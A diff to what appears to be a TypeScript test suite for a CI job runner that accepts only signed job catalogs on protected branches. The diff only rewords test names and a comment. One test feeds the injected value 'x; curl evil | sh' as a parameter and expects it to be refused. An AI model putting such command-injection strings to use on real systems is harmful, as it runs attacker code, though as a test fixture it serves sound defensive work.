@@ -49,7 +49,7 @@ async function templatesOf(graphId: string): Promise<string | null | undefined> 
   return rows[0]?.digest;
 }
 
-/** The catalog that a refusal names; throws when nothing was refused. */
+/** Returns the catalog that a refusal names; throws when nothing was refused. */
 async function refusedCatalog(): Promise<string> {
   const refusal = await farm.submit().then(
     () => "",
@@ -60,7 +60,7 @@ async function refusedCatalog(): Promise<string> {
 
 const signWith = (keyName: string, catalog: string) => signCatalog(db, keyName, catalog);
 
-test("a protected branch refuses what nobody signed, names it, and runs it once it is signed", async () => {
+test("a protected branch rejects an unsigned catalog, names it, and runs it after it is signed", async () => {
   commitJob(`true # ${randomUUID()}`);
 
   const catalog = await refusedCatalog();
@@ -71,7 +71,7 @@ test("a protected branch refuses what nobody signed, names it, and runs it once 
   expect(await templatesOf(graph.id)).toBe(catalog);
 });
 
-test("templates are signed once for all commits, whatever is filled into their holes", async () => {
+test("templates are signed once for all commits, for any values of their placeholders", async () => {
   commitJob(`true ${randomUUID()} # \${commit.sha}`);
   await signWith("holes", await refusedCatalog());
 
@@ -81,7 +81,7 @@ test("templates are signed once for all commits, whatever is filled into their h
   expect((await farm.submit()).isNew).toBe(true);
 });
 
-test("another priority or deadline needs no new signature, another command does", async () => {
+test("another priority or deadline needs no new signature; another command does", async () => {
   const command = `true # ${randomUUID()}`;
   commitJob(command);
   await signWith("two", await refusedCatalog());
@@ -93,7 +93,7 @@ test("another priority or deadline needs no new signature, another command does"
   expect(await refusedCatalog()).not.toBe("");
 });
 
-test("definitions that are sent along are held against the same rule", async () => {
+test("definitions in a request must satisfy the same rule", async () => {
   const own = { ".grange/farm.yml": "version: 1\njobs:\n  a: {commands: evil, inputs: []}\n" };
 
   await expect(farm.submit({ definitions: own })).rejects.toThrow(
@@ -101,7 +101,7 @@ test("definitions that are sent along are held against the same rule", async () 
   );
 });
 
-test("what a revoked key signed runs no more, and everybody's rights do not help", async () => {
+test("a catalog that a revoked key signed does not run any more, even with all rights", async () => {
   commitJob(`true # ${randomUUID()}`);
   await signWith("three", await refusedCatalog());
   expect((await farm.submit({}, everybody)).isNew).toBe(true);
@@ -111,7 +111,7 @@ test("what a revoked key signed runs no more, and everybody's rights do not help
   expect(await refusedCatalog()).not.toBe("");
 });
 
-test("a priority above the cap is refused there, and not stored", async () => {
+test("a priority above the cap is rejected on a protected branch, and not stored", async () => {
   commitJob(`true # ${randomUUID()}`);
   await signWith("four", await refusedCatalog());
   const capped = {
@@ -128,7 +128,7 @@ test("a priority above the cap is refused there, and not stored", async () => {
   });
 });
 
-describe("what signed templates leave open", () => {
+describe("open values of signed templates", () => {
   const submitter = {
     name: "carol",
     grants: [rightsOf("submit")],
@@ -149,14 +149,14 @@ describe("what signed templates leave open", () => {
     await signWith("templates", await refusedCatalog());
   });
 
-  test("is not for every submitter to fill in, but may be named as the branch has it", async () => {
+  test("cannot be set by every submitter, but may be stated as the branch has them", async () => {
     const evil = { parameters: { target: "x; curl evil | sh" } };
 
     await expect(farm.submit(evil, submitter)).rejects.toThrow("what target is there its branch");
     expect((await farm.submit({ parameters: { target: "staging" } }, submitter)).isNew).toBe(true);
   });
 
-  test("is filled in by who may define, or once what comes of it is signed", async () => {
+  test("can be set by a principal with `define`, or after the resulting definitions are signed", async () => {
     const production = { parameters: { target: "production" } };
     const refusal = await farm.submit(production, submitter).then(
       () => "",
